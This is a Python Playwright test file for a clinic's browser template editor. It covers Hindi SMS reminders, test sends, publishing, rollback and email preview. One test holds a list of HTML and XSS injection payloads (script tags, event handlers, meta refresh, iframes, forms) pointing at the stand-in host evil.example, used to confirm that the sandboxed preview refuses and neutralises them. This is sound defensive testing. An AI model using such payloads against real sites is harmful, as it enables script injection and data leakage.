"""The editor of texts in a browser: by somebody without code access, live, and safe (T1, T3, T4)."""

from __future__ import annotations

import re
from collections.abc import AsyncIterator
from datetime import timedelta
from typing import Any

import pytest
from asgiref.sync import sync_to_async
from playwright.async_api import BrowserContext, expect

from notifications.services import notify
from notifications.testing import deliver_all, outbox
from project.accounts.models import User
from project.clinic.models import Appointment, Status
from project.clinic.notifications import AppointmentReminderDay
from tests.browser.template_editor import DESKTOP, REMINDER, answered, browser_of, make_editor, opened
from tests.clinic import make_appointment, make_patient

pytestmark = [pytest.mark.chromium, pytest.mark.django_db(transaction=True)]

NEW = 'कल {% date starts_at "day" %}: {{ doctor }} आपकी राह देखेंगे।'
HOSTILE = """<script>top.document.title = "broken"; parent.postMessage("broken", "*")</script>
<img src="x" onerror="top.document.title = 'broken'"><img src="https://evil.example/{{ doctor }}.png" alt="">
<meta http-equiv="refresh" content="0;url=https://evil.example/refresh">
<link rel="stylesheet" href="https://evil.example/style.css"><style>@import "https://evil.example/import.css";
body { background: url(https://evil.example/background.png) }</style>
<iframe src="https://evil.example/frame"></iframe><object data="https://evil.example/object"></object>
<svg onload="top.document.title = 'broken'"><image href="https://evil.example/svg.png"/></svg>
<base href="https://evil.example/"><form action="https://evil.example/form"><button>Send</button></form>
<a id="away" target="_top" href="https://evil.example/top">Away</a> <p>Dear reader</p>
"""


@pytest.fixture
def kavita(transactional_db: None) -> User:
    return make_editor()


@pytest.fixture
def appointment(transactional_db: None) -> Appointment:
    """Of Asha, who reads Hindi."""
    patient = make_patient(language="hi")
    return make_appointment(patient=patient, status=Status.CONFIRMED, ahead=timedelta(days=3))


@pytest.fixture
async def context(kavita: User, chromium: str) -> AsyncIterator[BrowserContext]:
    async with browser_of(kavita, chromium, DESKTOP) as context:
        yield context


@sync_to_async
def remind(appointment: Appointment) -> str:
    """Send the reminder, and give what arrived on the phone, without the code of an answer, which is always another."""
    person = appointment.patient.user
    notify(
        AppointmentReminderDay(appointment_id=appointment.pk, starts_at=appointment.starts_at.isoformat()), to=person
    )
    deliver_all()
    return re.sub(r"\b([CX]) \d+", r"\1", outbox("sms", to=person.phone)[-1].content["text"])


@sync_to_async
def texts_of(user: User) -> list[str]:
    deliver_all()
    return [each.content["text"] for each in outbox("sms", to=user.phone)]


async def test_an_editor_changes_the_reminder_in_hindi_tries_it_publishes_it_and_rolls_back(
    context: BrowserContext, kavita: User, appointment: Appointment
) -> None:
    old = await remind(appointment)
    page = await context.new_page()
    await page.goto("/admin/")
    await page.get_by_role("link", name="Templates").first.click()
    await page.get_by_label("Search").fill("day before")
    await expect(page.locator("tr[data-row]:visible")).to_have_count(3)
    await page.get_by_role("link", name="Reminds of an appointment the day before, sms, hi").click()
    await answered(page)

    # Live, as she types.
    bubbles = page.locator(".notify-said")
    await expect(bubbles.first).to_contain_text("Vaidya Meera Nair")
    field = page.get_by_label("Text message sms.txt")
    await field.fill(NEW)
    await expect(bubbles.first).to_contain_text("Vaidya Meera Nair आपकी राह देखेंगे।")
    await expect(page.locator(".notify-count")).to_contain_text("1 segment")
    await expect(page.locator(".notify-count")).to_contain_text("UCS-2")
    assert await remind(appointment) == old

    # To herself.
    await page.get_by_role("button", name="Send me a test").click()
    await expect(page.get_by_text("It is on its way.")).to_be_visible()
    (arrived,) = await texts_of(kavita)
    assert arrived.endswith("आपकी राह देखेंगे।")
    await expect(page.locator(".notify-said")).to_have_text(arrived)
    await expect(page.locator(".notify-trial .notify-badge")).to_contain_text("delivered")
    assert await remind(appointment) == old

    # To readers.
    await page.get_by_role("link", name="Back to the text").click()
    await expect(page.locator(".notify-key")).to_contain_text("draft v1")
    await page.get_by_role("button", name="Publish …").click()
    await expect(page.locator(".notify-diff ins")).to_contain_text("आपकी राह देखेंगे।")
    await page.get_by_role("button", name="Publish version 1").click()
    await expect(page.locator(".messagelist")).to_contain_text("Version 1 is published")
    new = await remind(appointment)
    assert new != old
    assert new.endswith("Vaidya Meera Nair आपकी राह देखेंगे।")

    # And back.
    await page.get_by_role("link", name="History and rollback").click()
    await page.get_by_role("button", name=re.compile("Roll back to the files")).click()
    await expect(page.locator(".messagelist")).to_contain_text("Rolled back.")
    assert await remind(appointment) == old


async def test_a_hostile_text_is_refused_and_would_do_nothing_in_the_preview(context: BrowserContext) -> None:
    asked: list[str] = []

    async def evil(route: Any) -> None:
        asked.append(route.request.url)
        await route.fulfill(body="evil", content_type="text/html")

    await context.route("https://evil.example/**", evil)
    page = await opened(context, f"{REMINDER}email/default/")
    await page.evaluate("fetch('https://evil.example/heard', {mode: 'no-cors'})")
    title = await page.title()
    field, frame = page.get_by_label("Email email.html"), page.frame_locator("#notify-mail-frame")
    await field.fill(HOSTILE)
    await expect(page.locator("#notify-preview-error")).to_contain_text("script")

    async def as_if_it_were_not_refused(route: Any) -> None:
        answer = await (await route.fetch()).json()
        answer["message"]["frame"] = answer["message"]["frame"].replace("HERE", HOSTILE)
        await route.fulfill(json=answer)

    await page.route("**/preview/", as_if_it_were_not_refused)
    await field.fill('<p>HERE</p><img src="https://evil.example/{{ doctor }}.png" alt="A room">')
    await expect(frame.get_by_text("Dear reader")).to_be_visible()
    await expect(page.locator("[data-show=foreign]")).to_contain_text("1 picture of other sites: not loaded here")
    await frame.locator("#away").click()
    await frame.get_by_role("button", name="Send").click()
    await page.wait_for_timeout(500)  # for what would be asked for meanwhile
    assert await page.title() == title
    assert page.url.endswith(f"{REMINDER}email/default/")
    assert len(context.pages) == 1
    await expect(frame.get_by_text("Dear reader")).to_be_visible()
    assert asked == ["https://evil.example/heard"]


async def test_an_email_is_seen_on_a_phone_in_the_dark_and_as_plain_text(context: BrowserContext) -> None:
    page = await opened(context, f"{REMINDER}email/hi/")
    frame, body = page.locator("#notify-mail-frame"), page.frame_locator("#notify-mail-frame").locator("body")
    background = "element => getComputedStyle(element).backgroundColor"
    await page.get_by_label("phone").check()
    await expect(frame).to_have_css("width", "375px")
    await page.get_by_label("computer").check()
    await expect(frame).to_have_css("width", "640px")
    shades = {}
    for dark in (True, False):
        await page.get_by_label("dark").set_checked(dark)
        await page.wait_for_timeout(300)
        shades[dark] = sum(map(int, re.findall(r"\d+", await body.evaluate(background))[:3]))
    assert shades[True] < 200 < 500 < shades[False], shades
    await page.get_by_role("radio", name="plain text").check()
    await expect(frame).to_be_hidden()
    await expect(page.locator(".notify-plain")).to_contain_text("Vaidya Meera Nair")
